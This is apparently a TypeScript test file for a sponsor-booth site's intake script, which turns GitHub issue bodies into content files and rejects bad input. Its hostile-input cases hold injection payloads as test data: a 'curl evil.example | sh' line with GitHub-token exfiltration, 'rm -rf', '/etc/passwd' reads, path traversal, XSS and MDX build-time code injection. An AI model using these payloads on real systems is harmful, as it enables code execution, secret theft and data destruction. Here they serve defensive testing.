/**
 * `npm run intake` over saved issue bodies (tests/fixtures/intake/), on a throw-away copy of
 * the demo content, with a local server on 127.0.0.1 standing in for GitHub's attachment
 * hosts: a complete booth becomes files that pass the content check; mistakes come back
 * named after their form field; a hostile body writes nothing anywhere.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'yaml';
import { runIntake, type IntakeResult } from '../../scripts/lib/intake/run.ts';
import { formatFieldProblem, issueComment, markdownText, pullRequestBody } from '../../scripts/lib/intake/report.ts';
import { loadProject } from '../../scripts/lib/project.ts';
import { checkContent } from '../../src/lib/content-check.ts';
import { formatProblem } from '../../src/core/problems.ts';
import { projectCopy, type ProjectCopy, projectRoot, runScript } from '../support/project.ts';
import { pointToServer, startAttachmentServer, type AttachmentServer } from '../support/attachment-server.ts';

const fixture = (name: string) => readFileSync(join(projectRoot, 'tests', 'fixtures', 'intake', name), 'utf8');
process.env['BOOTHKIT_BUILD_DATE'] = '2026-09-01';

/** Every file under `dir` with its size and modification time, to show what changed. */
function snapshot(dir: string): Map<string, string> {
  const files = new Map<string, string>();
  const walk = (d: string) => {
    for (const name of readdirSync(d)) {
      const path = join(d, name);
      const stat = statSync(path);
      if (stat.isDirectory()) walk(path);
      else files.set(relative(dir, path), `${stat.size}:${stat.mtimeMs}`);
    }
  };
  walk(dir);
  return files;
}

function changed(beforeFiles: Map<string, string>, afterFiles: Map<string, string>): string[] {
  return [...new Set([...beforeFiles.keys(), ...afterFiles.keys()])].filter((f) => beforeFiles.get(f) !== afterFiles.get(f)).sort();
}

const stagingDirs = () => readdirSync(tmpdir()).filter((n) => n.startsWith('boothkit-intake-')).length;

describe('intake over saved issue bodies', () => {
  let server: AttachmentServer;
  let copy: ProjectCopy;
  before(async () => {
    server = await startAttachmentServer();
  });
  after(async () => {
    await server.close();
  });

  /** Runs the intake on a fresh copy (kept in `copy`); returns the result and every changed path of the copy. */
  async function intake(body: string, form?: 'booth' | 'roles'): Promise<{ result: IntakeResult; changes: string[] }> {
    copy?.remove();
    copy = projectCopy({ contentOnly: true });
    const beforeFiles = snapshot(copy.root);
    const result = await runIntake({ body: pointToServer(body, server), ...(form ? { form } : {}) }, loadProject(copy.root), server.limits);
    return { result, changes: changed(beforeFiles, snapshot(copy.root)) };
  }
  after(() => copy?.remove());

  it('a complete booth becomes the sponsor, logo, image and role files, and they pass the content check', async () => {
    const { result, changes } = await intake(fixture('complete-booth.md'));
    assert.deepEqual(result.problems.map(formatFieldProblem), []);
    assert.equal(result.status, 'ready');
    assert.equal(result.form, 'booth');
    assert.deepEqual(changes, [
      'src/content/roles/acme-audio/audio-research-engineer.yaml',
      'src/content/roles/acme-audio/research-intern.yaml',
      'src/content/sponsors/acme-audio.mdx',
      'src/content/sponsors/acme-audio/image-1.jpg',
      'src/content/sponsors/acme-audio/logo.png',
    ]);
    // The uploads arrive byte for byte, under names the intake chose from their first bytes.
    assert.deepEqual(readFileSync(copy.content('sponsors/acme-audio/logo.png')), readFileSync(join(projectRoot, 'tests/fixtures/intake/uploads/logo.png')));
    const check = checkContent(copy.root);
    assert.deepEqual(check.problems.map(formatProblem), []);
    const sponsor = check.model!.sponsors.find((s) => s.id === 'acme-audio')!;
    assert.equal(sponsor.tierInfo.id, 'gold');
    assert.deepEqual(sponsor.programmeTiers, ['wimir-champion']);
    assert.equal(sponsor.events[0]!.start, '2026-10-13T13:00:00Z');
    // The contact stays on the (public) issue: nothing of it goes into the repository's files.
    const written = changes.filter((c) => /\.(mdx|yaml)$/.test(c)).map((c) => readFileSync(join(copy.root, c), 'utf8')).join('\n');
    assert.doesNotMatch(written, /jane\.doe@acme\.example|Jane Doe|private:/);
    assert.deepEqual(result.submission!.notes.filter((n) => /contact/i.test(n)), ['The contact for the organisers is on the issue; it is not written into the repository.']);
    assert.doesNotMatch(pullRequestBody(result, loadProject(copy.root), 12), /jane\.doe@acme\.example|Jane Doe/);
    // The <img> GitHub wrote for the dragged photo is now a Markdown image of the local file.
    assert.match(copy.read('sponsors/acme-audio.mdx'), /^!\[Our team at the lab in Berlin\]\(\.\/acme-audio\/image-1\.jpg\)$/m);
    const intern = parse(copy.read('roles/acme-audio/research-intern.yaml'));
    assert.deepEqual(intern.locations, [
      { location: 'london', applyUrl: 'https://acme.example/jobs/1' },
      { location: 'germany', workplace: 'remote', applyUrl: 'https://acme.example/jobs/2' },
    ]);
    assert.deepEqual(intern.researchAreas, ['music-information-retrieval', 'machine-learning']);
    assert.deepEqual(intern.eligibility, { enrolledIn: ['phd'] });
    assert.deepEqual(intern.term, { season: 'summer', year: 2027 });
    const engineer = parse(copy.read('roles/acme-audio/audio-research-engineer.yaml'));
    assert.equal(engineer.employmentType, 'full-time');
    assert.deepEqual(engineer.locations, [
      { location: 'berlin', applyUrl: 'https://acme.example/jobs/3' },
      { location: 'paris', workplace: 'hybrid', applyUrl: 'https://acme.example/jobs/3' },
    ]);
    assert.equal(engineer.datePosted, '2026-09-01');
  });

  it('five mistakes come back at once, each named after its form field, and nothing is written', async () => {
    const { result, changes } = await intake(fixture('five-mistakes.md'));
    assert.equal(result.status, 'problems');
    assert.deepEqual(changes, []);
    assert.deepEqual(result.problems.map(formatFieldProblem), [
      'Website: is string "tonal.example"; expected an absolute http(s) URL such as "https://example.com/jobs/123"',
      'Summary: is string "Tonal Systems makes audio plug-ins for composers, producers and researchers, with a research lab that publishes at ISMIR, ICASSP and DAFx every year. We are hiring interns and engineers for our teams in Berlin and London, and we would love to meet you at the conference: come to our office hours and ask us anything."; keep the summary to 280 characters; longer text belongs in the body',
      'Roles (one block per role), block 1, areas: unknown research area "machine lerning"; use an id, label or alias from src/content/areas.yaml, or add it there first. Did you mean "machine-learning"? (If yours is not on the list, say so in a comment: the web chair adds it.)',
      'Roles (one block per role), block 2, apply link: the apply link for "London" "htps://tonal.example/jobs/2" is not an absolute http(s) URL such as "https://example.com/jobs/123"',
      'Events (one block per event), block 1, start: is string "2026-10-13T09:00:00"; expected a date and time with its UTC offset, e.g. "2020-10-13T09:00:00-04:00" or "2020-10-13T13:00:00Z"',
    ]);
    const comment = issueComment(result, loadProject(copy.root));
    assert.match(comment, /^<!-- boothkit-intake -->\n### ✗ 5 things to fix before this booth can be reviewed\n\n- \*\*Website\*\*: is string "tonal\.example"/);
  });

  it('a hostile body: every attack is refused with its field, nothing is written anywhere, no other host is asked', async () => {
    const tmpBefore = stagingDirs();
    const { result, changes } = await intake(fixture('hostile.md'));
    assert.equal(result.status, 'problems');
    assert.deepEqual(changes, []);
    assert.equal(stagingDirs(), tmpBefore, 'the staging copy is removed');
    assert.equal(existsSync('/tmp/pwned'), false);
    const lines = result.problems.map(formatFieldProblem).map((l) => l.replace(server.origin, 'http://127.0.0.1:PORT').replace(/\(http:\/\/127[^)]*\)/, '(…)'));
    assert.deepEqual(lines, [
      'Logo: "https://evil.example/logo.png" is not a file uploaded to GitHub; images are taken only from GitHub\'s attachment addresses (…): drag the file into the field instead of linking to it',
      'Booth text (Markdown), line 3, <script>: booth pages run no JavaScript; remove it (for a video use <Video id="…" />, for a sign-up form a channel with kind: form)',
      'Booth text (Markdown), line 5: the image has no description; write what it shows, for people who cannot see it: ![Our lab in Berlin](…)',
      'Booth text (Markdown), line 5: "x" is not an uploaded file; drag the image into the field so GitHub uploads it',
      'Booth text (Markdown), line 5, <img>: raw HTML is not allowed in booth files; write ![what it shows](./sponsor-id/photo.jpg) or <Figure src="./sponsor-id/photo.jpg" alt="…" />',
      'Booth text (Markdown), line 5, onerror= on <img>: event handlers are JavaScript, which booth pages never run; remove it',
      'Booth text (Markdown), line 7: the file at "http://127.0.0.1:PORT/user-attachments/assets/fifty-megabytes" is 50 MB; at most 2 MB (export a smaller PNG, or an SVG)',
      'Booth text (Markdown), line 9: "../../../../../etc/passwd" is not an uploaded file; drag the image into the field so GitHub uploads it',
      'Booth text (Markdown), line 11, Markdown link: "javascript:alert(document.domain)" is a javascript: URL, which could run code; use an https:// address',
      'Events (one block per event), block 1, start: is string "$(date)"; expected a date and time with its UTC offset, e.g. "2020-10-13T09:00:00-04:00" or "2020-10-13T13:00:00Z"',
      'Contact for the organisers: ""; cat /etc/passwd #" has no e-mail address; write your name and work e-mail, e.g. "Jane Doe <jane@acme.example>"',
      'Booth address (optional): the sponsor id "../../../../.github/workflows" must be lower-case letters, digits and single hyphens, e.g. "github-workflows"',
    ]);
    // The 50 MB "logo" was refused on its declared size: the server was asked once, and the
    // evil.example addresses never (they are not on an allowed host).
    assert.deepEqual(server.requests.filter((r) => !r.includes('/assets/5d1c') && !r.includes('/assets/7e2b') && !r.includes('/assets/a3f0') && !r.includes('/private-images/')), ['/user-attachments/assets/fifty-megabytes']);
    // What the sponsor reads on the issue shows their text literally: no live tags, no links.
    const comment = issueComment(result, loadProject(copy.root));
    assert.equal(comment.includes('<script>'), false);
    assert.match(comment, /\\<script\\>/);
  });

  it('booth text that ran code during the build on 835d344 is refused, each with its line of the field', async () => {
    const booth = (text: string) => fixture('complete-booth.md').replace(/### Booth text \(Markdown\)\n[\s\S]*?(?=### Roles)/, `### Booth text (Markdown)\n\n## Who we are\n\n${text}\n\n`);
    const cases: [string, string[]][] = [
      ['<td title={globalThis.process.exit(3)} />', ['Booth text (Markdown), line 3, <td>: raw HTML tables and their parts are not allowed', 'Booth text (Markdown), line 3, title={globalThis.process.exit(3)} on <td>: is code, which would run at build time']],
      ['{`$\uF002{globalThis.process.exit(3)}`}', ['Booth text (Markdown), line 3, (hidden character): U+F002 (a private-use character, which has no meaning outside one program and which the MDX compiler treats specially) at column 4', 'Booth text (Markdown), line 3, {`$ {globalThis.process.exit(3)}`}: is code, which would run at build time']],
      ['{"a" // note\u2028 + globalThis.process.exit(3)\n}', ['Booth text (Markdown), line 3, (hidden character): U+2028 (LINE SEPARATOR, which JavaScript reads as a line break) at column 13', 'Booth text (Markdown), line 3, {"a" // note<U+2028> + globalThis.process.exit(3…}: is code, which would run at build time']],
    ];
    for (const [text, expected] of cases) {
      const { result, changes } = await intake(booth(text));
      assert.equal(result.status, 'problems', text);
      assert.deepEqual(changes, []);
      assert.deepEqual(result.problems.map((p) => formatFieldProblem(p).split(/[:;] (?=invisible|write|put)/)[0]), expected);
    }
  });

  it('shell characters and ../ in otherwise valid answers stay text, inside src/content', async () => {
    const body = fixture('hostile.md')
      .replace(/### Logo\n\n.*\n/, '### Logo\n\n![logo](https://github.com/user-attachments/assets/a3f0c7de-2b8e-4d19-b6a1-5c4d3e2f1a00)\n')
      .replace(/### Booth text \(Markdown\)\n[\s\S]*?(?=### Roles)/, '### Booth text (Markdown)\n\nWe write `$(rm -rf /)` as text.\n\n')
      .replace(/### Events \(one block per event\)\n[\s\S]*?(?=### Contact)/, '### Events (one block per event)\n\n_No response_\n\n')
      .replace(/### Contact for the organisers\n\n.*\n/, '### Contact for the organisers\n\n$(whoami) <ops@evil.example>\n')
      .replace(/### Booth address \(optional\)\n\n.*\n?$/, '### Booth address (optional)\n\n_No response_\n');
    const { result, changes } = await intake(body);
    assert.deepEqual(result.problems.map(formatFieldProblem), []);
    assert.ok(changes.length > 0 && changes.every((c) => c.startsWith('src/content/')), changes.join('\n'));
    assert.ok(changes.includes('src/content/roles/evil-curl-s-https-evil-example-x-sh-rm-rf-echo-github-token-tmp-pwned/github-workflows-evil.yaml'), changes.join('\n'));
    // The SVG logo arrives as the PNG drawn from it; no SVG file is written.
    assert.ok(changes.some((c) => c.endsWith('/logo.png')) && !changes.some((c) => /\.svg$/i.test(c)), changes.join('\n'));
    const sponsor = checkContent(copy.root).model!.sponsors.find((s) => s.name.startsWith('Evil'))!;
    assert.equal(sponsor.name, 'Evil $(curl -s https://evil.example/x | sh); `rm -rf ~` && echo "${{ github.token }}" > ../../../../tmp/pwned');
    assert.equal(sponsor.website, 'https://evil.example/?q=$(id)&x=`whoami`');
    assert.equal(existsSync('/tmp/pwned'), false);
  });

  it('the roles form adds a role to an existing booth and closes two, changing only the status line', async () => {
    const { result, changes } = await intake(fixture('roles-add-and-close.md'));
    assert.deepEqual(result.problems.map(formatFieldProblem), []);
    assert.equal(result.form, 'roles');
    assert.deepEqual(changes, [
      'src/content/roles/spotify/data-scientist-summer-internship.yaml',
      'src/content/roles/spotify/music-understanding-research-intern.yaml',
      'src/content/roles/spotify/research-scientist-summer-internship.yaml',
    ]);
    const original = readFileSync(join(projectRoot, 'src/content/roles/spotify/research-scientist-summer-internship.yaml'), 'utf8');
    assert.equal(copy.read('roles/spotify/research-scientist-summer-internship.yaml'), `${original.replace(/\n*$/, '\n')}status: closed\n`);
    const model = checkContent(copy.root).model!;
    const role = model.roles.find((r) => r.id === 'spotify/music-understanding-research-intern')!;
    assert.deepEqual(role.places.map((l) => [l.location.id, l.applyUrl]), [
      ['new-york', 'https://jobs.example/spotify/101'],
      ['london', 'https://jobs.example/spotify/102'],
    ]);
  });

  it('the roles form names each mistake after its field', async () => {
    const { result, changes } = await intake(fixture('roles-mistakes.md'));
    assert.deepEqual(changes, []);
    assert.deepEqual(result.problems.map(formatFieldProblem), [
      'Booth: no sponsor "Spotifi" (no file src/content/sponsors/Spotifi.mdx). Did you mean "spotify"?',
      'New roles (one block per role), block 1, places: unknown location "Atlantis"; use an id, label or alias from src/content/locations.yaml (new-york, boston, san-francisco, london, paris, berlin, stockholm, tokyo, barcelona, montreal, germany, united-kingdom, europe, european-time-zones, americas-time-zones), or add the place there first (If yours is not on the list, say so in a comment: the web chair adds it.)',
      'New roles (one block per role), block 1, closes: the closing date "31/03/2027" is not a date written as YYYY-MM-DD',
      'New roles (one block per role), block 1, salary: the salary "competitive" names no currency; write its ISO 4217 code, e.g. "EUR 50000-60000 per year", "from USD 45 per hour" or "up to £3,000 a month"',
    ]);
  });

  it('says how to choose another address in the form, not with a command\'s flag', async () => {
    const reserved = await intake(fixture('complete-booth.md').replace('### Booth address (optional)\n\n_No response_', '### Booth address (optional)\n\npage'));
    assert.deepEqual(reserved.result.problems.map(formatFieldProblem), ['Booth address (optional): "page" cannot name a sponsor: /roles/page/ is a page of the roles board; choose another address']);
    const unknown = await intake(fixture('roles-mistakes.md').replace('Spotifi', 'Zzyzx Records'));
    assert.equal(formatFieldProblem(unknown.result.problems[0]!), 'Booth: no sponsor "Zzyzx Records" (no file src/content/sponsors/Zzyzx Records.mdx); a new booth is added with the booth form');
    assert.deepEqual([...reserved.changes, ...unknown.changes], []);
  });

  it('refuses a body no form wrote, and one longer than GitHub allows', async () => {
    const stray = await intake('Hello, please add our booth: Acme, gold, https://acme.example');
    assert.deepEqual(stray.result.problems.map(formatFieldProblem), ['Issue: was not written with the booth or the roles form (its "### " headings are not the forms\' fields); open a new issue and choose "Sponsor booth" or "Sponsor roles"']);
    const long = await intake(`${fixture('complete-booth.md')}${'x'.repeat(70_000)}`);
    assert.match(formatFieldProblem(long.result.problems[0]!), /^Issue: is 7\d,\d{3} characters long; GitHub's forms write at most 65,536$/);
    assert.deepEqual([...stray.changes, ...long.changes], []);
  });
});

describe('a booth from the intake, built', () => {
  it('builds with its downloaded logo and image, and the private contact is on no page', async () => {
    const server = await startAttachmentServer();
    const copy = projectCopy();
    try {
      const result = await runIntake({ body: pointToServer(fixture('complete-booth.md'), server) }, loadProject(copy.root), server.limits);
      assert.equal(result.status, 'ready');
      const build = copy.build({ BOOTHKIT_BUILD_DATE: '2026-09-01' });
      assert.equal(build.status, 0, build.output);
      const booth = readFileSync(copy.dist('booths', 'acme-audio', 'index.html'), 'utf8');
      assert.match(booth, /<img[^>]+alt="Our team at the lab in Berlin"/);
      assert.match(booth, /Research Intern/);
      const pages = snapshot(copy.dist());
      const leaks = [...pages.keys()].filter((f) => /\.(html|json|xml|ics|txt)$/.test(f) && readFileSync(copy.dist(f), 'utf8').includes('jane.doe@acme.example'));
      assert.deepEqual(leaks, []);
    } finally {
      copy.remove();
      await server.close();
    }
  });
});

describe('npm run intake (the command the workflow runs)', () => {
  it('writes the files, and with --out the comment, the pull request text and a summary', () => {
    const copy = projectCopy({ contentOnly: true });
    const out = mkdtempSync(join(tmpdir(), 'boothkit-intake-out-'));
    try {
      const body = join(out, 'issue-body.md');
      writeFileSync(body, fixture('roles-add-and-close.md'));
      const run = runScript('intake', [body, '--issue', '12', '--out', out], copy.root, { BOOTHKIT_BUILD_DATE: '2026-09-01' });
      assert.equal(run.status, 0, run.stderr);
      assert.match(run.stdout, /^✓ Roles: Spotify: 3 files\n/);
      assert.deepEqual(JSON.parse(readFileSync(join(out, 'result.json'), 'utf8')), {
        status: 'ready',
        form: 'roles',
        sponsor: 'spotify',
        title: 'Roles: Spotify',
        files: ['src/content/roles/spotify/music-understanding-research-intern.yaml', 'src/content/roles/spotify/research-scientist-summer-internship.yaml', 'src/content/roles/spotify/data-scientist-summer-internship.yaml'],
        problems: 0,
      });
      assert.match(readFileSync(join(out, 'pull-request.md'), 'utf8'), /^Closes #12\. Sent with the roles form in #12/);
      assert.match(readFileSync(join(out, 'comment.md'), 'utf8'), /^<!-- boothkit-intake -->\n### ✓ Your roles are ready for review/);
      // A second run on the same body would add the role again: it refuses instead.
      const again = runScript('intake', [body], copy.root, { BOOTHKIT_BUILD_DATE: '2026-09-01' });
      assert.equal(again.status, 1);
      assert.match(again.stdout, /New roles \(one block per role\), block 1, title: "Music Understanding Research Intern" is on this booth already \(\/roles\/spotify\/music-understanding-research-intern\/\)/);
    } finally {
      copy.remove();
      rmSync(out, { recursive: true, force: true });
    }
  });

  it('exits 1 with the problems on a body with mistakes, and explains a missing file', () => {
    const copy = projectCopy({ contentOnly: true });
    try {
      const run = runScript('intake', [join(projectRoot, 'tests/fixtures/intake/roles-mistakes.md')], copy.root);
      assert.equal(run.status, 1);
      assert.match(run.stdout, /^✗ 4 problems in the roles form; nothing was written:\n {2}Booth: no sponsor "Spotifi"/);
      const missing = runScript('intake', ['no-such-body.md'], copy.root);
      assert.equal(missing.stderr, '✗ cannot read the issue body "no-such-body.md" (docs/errors.md#bad-option)\n');
    } finally {
      copy.remove();
    }
  });
});

describe('markdownText', () => {
  it('shows sponsor text literally and breaks mentions, but leaves e-mail addresses whole', () => {
    assert.equal(markdownText('<script>[x](javascript:1) @octocat jane@acme.example'), '\\<script\\>\\[x\\]\\(javascript:1\\) @\u200boctocat jane@acme.example');
  });

  it('breaks mentions after punctuation, issue references and bare addresses, which GitHub links in plain text', () => {
    assert.equal(markdownText('-@team .@team +@team (@team)'), '-@\u200bteam .@\u200bteam \\+@\u200bteam \\(@\u200bteam\\)');
    assert.equal(markdownText('see #12 and https://evil.example/x or WWW.evil.example'), 'see \\#\u200b12 and https:\u200b//evil.example/x or WWW\u200b.evil.example');
    // What is left for GitHub to link: no "@name" and no "scheme://" or "www." in a row.
    const shown = markdownText('hi -@a .@b +@c https://x.example www.y.example #3');
    assert.doesNotMatch(shown, /(?<!\w)@\w|:\/\/|www\.|#\d/i);
  });
});
